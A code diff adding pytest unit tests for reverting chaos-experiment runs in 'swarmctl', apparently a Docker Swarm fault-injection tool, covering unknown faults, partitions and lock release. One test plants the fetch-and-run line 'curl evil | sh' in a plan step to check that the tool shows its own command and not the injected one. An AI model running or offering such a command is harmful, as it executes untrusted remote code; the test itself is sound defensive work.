@@ -7,13 +7,16 @@ from pathlib import Path
 
 import pytest
 
-from swarmctl.chaos.journal.journal import Journal
+from swarmctl.chaos.fault.kind import Options
+from swarmctl.chaos.journal.journal import Journal, Mark
+from swarmctl.chaos.journal.phases import phases
 from swarmctl.chaos.journal.runs import Runs
 from swarmctl.chaos.run.revert_from_journal import revert
 from swarmctl.chaos.run.steps import revert as revert_step
 from swarmctl.chaos.run.steps.revert import RevertFailedError
 from swarmctl.chaos.world.reconnect import ReconnectingEngine
 from swarmctl.errors import Exit, SwarmctlError
+from swarmctl.swarm import lock
 from swarmctl.swarm.engine import Engine
 from tests.unit.chaos.stage import Quiet, Stage, stage
 
@@ -145,3 +148,71 @@ def test_a_manager_is_back_when_the_others_reach_it(
     s.clock.at(at, reached)
     undo(s, journal)
     assert s.clock.now() >= at
+
+
+# --- what a revert leaves -------------------------------------------------------------------------
+
+
+def test_a_reverted_run_ends_as_interrupted_with_commands_of_our_own(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Broken: a command that someone wrote into the plan is shown to be typed."""
+    s, journal = killed(tmp_path, 8.0, monkeypatch)
+    steps = tuple(replace(step, by_hand="curl evil | sh") for step in journal.undo.steps)
+    journal.undo = replace(journal.undo, steps=steps)
+    undo(s, journal)
+    left = s.runs.load(journal.id)
+    assert (left.outcome, left.phase) == ("interrupted", "ended")
+    assert left.ended_s == round(s.clock.now(), 3) > 8.0
+    assert left.phases == phases(left) != {}
+    (step,) = left.undo.steps
+    assert step.by_hand == "aws ec2 start-instances --instance-ids i-wkr2"
+
+
+def test_a_fault_that_this_version_does_not_know_is_left_to_a_person(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    s, journal = killed(tmp_path, 8.0, monkeypatch)
+    journal.experiment = "flood"
+    with pytest.raises(RevertFailedError) as caught:
+        undo(s, journal)
+    text = f"revert of {journal.id} failed: this version knows no fault 'flood'"
+    assert caught.value.message == text
+    assert s.lab.log == ["stop wkr2"]
+
+
+def test_a_fault_that_left_its_node_ready_is_undone_under_its_own_options(tmp_path: Path) -> None:
+    """Cut off from the workers alone, a node stays Ready: that need not last for seconds."""
+    s = stage(tmp_path, fault="partition", options=Options(sever="workers"))
+    s.lab.engine.snapshot = s.lab.snapshot  # type: ignore[method-assign]  # this Swarm's nodes
+    journal = s.experiment.rehearse()
+    journal.undo = replace(journal.undo, state="planned")
+    journal.marks.append(Mark(1.0, "fault", "partition of wkr2"))
+    undo(s, journal)
+    assert s.clock.now() < 1.0
+
+
+@pytest.mark.parametrize(
+    ("plan", "kept"), [("its own", False), ({"id": "another"}, True), ({}, True), (None, True)]
+)
+def test_only_the_runs_own_lock_is_released(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plan: object, kept: bool
+) -> None:
+    s, journal = killed(tmp_path, 8.0, monkeypatch)
+    if plan != "its own":
+        s.lab.engine.store["configs"].clear()
+        owner = lock.this_process("chaos x")
+        lock.acquire(s.lab.engine, lock.CHAOS, 600, owner, plan)  # type: ignore[arg-type]  # a plan
+    undo(s, journal)
+    assert (lock.find(s.lab.engine, lock.CHAOS) is not None) is kept
+
+
+def test_a_lock_that_stays_is_said_and_the_revert_is_done(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    s, journal = killed(tmp_path, 8.0, monkeypatch)
+    s.lab.engine.refuse["DELETE /configs"] = "no leader"
+    said = Quiet()
+    revert(journal, s.runs, s.lab.engine, s.lab, s.lab, s.clock, said)
+    assert said.lines[-1] == "the Swarm's chaos lock is not released: no leader"
+    assert s.runs.pending() == ()
